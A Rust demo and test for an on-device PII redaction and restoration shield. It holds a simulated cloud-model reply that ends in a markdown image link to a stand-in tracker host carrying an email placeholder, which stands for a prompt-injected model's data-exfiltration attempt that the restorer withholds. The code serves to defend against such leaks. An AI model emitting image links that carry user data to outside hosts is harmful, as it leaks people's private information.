//! The demo on an embedded default: a message with PII is redacted, a
//! (simulated) cloud reply that uses the placeholders streams back in small
//! chunks, and the restorer puts the originals back, except inside a link
//! the reply slipped in (a prompt-injected model's exfiltration attempt).

use anyhow::Result;
use std::io::Write;
use tandem_core::shield::{Redactor, Shield};

/// The embedded sample message.
pub(crate) const SAMPLE: &str = "Hi, I'm moving my account. Reach me at zoë.müller@example.de or +44 20 7946 0958. \
My card 4111 1111 1111 1111 and IBAN DE89 3704 0044 0532 0130 00 should be closed; \
I was born on 14 March 1985. Server 203.0.113.9 still uses key AKIAIOSFODNN7EXAMPLE.";

/// What the cloud model might answer to the redacted message, ending with
/// an image whose URL would carry the email address away when rendered.
const REPLY: &str = "Sure. I'll confirm by writing to [EMAIL_1] and calling [PHONE_1]. \
Card [CARD_1] and account [IBAN_1] will be closed; please rotate [SECRET_1] on [IP_1]. \
![status](https://tracker.example/pixel.png?u=[EMAIL_1])";

pub(crate) fn run() -> Result<()> {
    write_demo(&mut std::io::stdout().lock())
}

fn write_demo(out: &mut impl Write) -> Result<()> {
    let mut redactor = Redactor::new(Shield::default());
    let redacted = redactor.redact(SAMPLE)?;
    writeln!(out, "== original (stays on the device)\n{SAMPLE}\n")?;
    writeln!(out, "== found")?;
    for e in &redacted.entities {
        writeln!(
            out,
            "  {:<14} {:<32} score {:.2}  -> {}",
            e.span.kind.as_str(),
            e.span.text(SAMPLE),
            e.span.score,
            e.replacement
        )?;
    }
    writeln!(out, "\n== sent to the cloud\n{}\n", redacted.text)?;
    writeln!(
        out,
        "== reply as streamed back (chunks of 7 bytes), restored on the device"
    )?;
    let mut restorer = redactor.restorer();
    let mut chunk_start = 0;
    while chunk_start < REPLY.len() {
        let mut end = (chunk_start + 7).min(REPLY.len());
        while !REPLY.is_char_boundary(end) {
            end += 1;
        }
        write!(out, "{}", restorer.push(&REPLY[chunk_start..end]))?;
        out.flush()?;
        chunk_start = end;
    }
    writeln!(out, "{}", restorer.finish())?;
    writeln!(
        out,
        "\n== withheld: {} placeholder(s) inside links or markup stay placeholders \
         (restoring them would send the original to whatever the link points at)",
        restorer.withheld()
    )?;
    Ok(())
}

#[cfg(test)]
mod tests {
    #[test]
    fn the_demo_restores_the_reply_but_not_the_link_it_slipped_in() {
        let mut out = Vec::new();
        super::write_demo(&mut out).unwrap();
        let out = String::from_utf8(out).unwrap();
        let reply = out.split("restored on the device\n").nth(1).unwrap();
        assert!(
            reply.starts_with("Sure. I'll confirm by writing to zoë.müller@example.de and calling +44 20 7946 0958.")
        );
        assert!(
            reply.contains("![status](https://tracker.example/pixel.png?u=[EMAIL_1])"),
            "{reply}"
        );
        assert!(out.contains("== withheld: 1 placeholder(s)"), "{out}");
    }
}
